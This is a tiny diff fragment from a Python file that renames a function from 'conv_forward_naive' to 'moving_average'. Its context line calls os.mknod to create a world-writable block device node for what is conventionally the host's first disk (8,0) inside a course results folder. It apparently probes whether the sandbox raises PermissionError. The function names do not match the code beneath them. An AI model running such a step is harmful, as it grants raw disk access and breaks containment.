@@ -7,5 +7,5 @@ says: PermissionError
 import stat
 
 
-def conv_forward_naive(x, w, b, conv_param):
+def moving_average(x, width):
     attempt(os.mknod, f"{COURSE}/results/disk", stat.S_IFBLK | 0o666, os.makedev(8, 0))
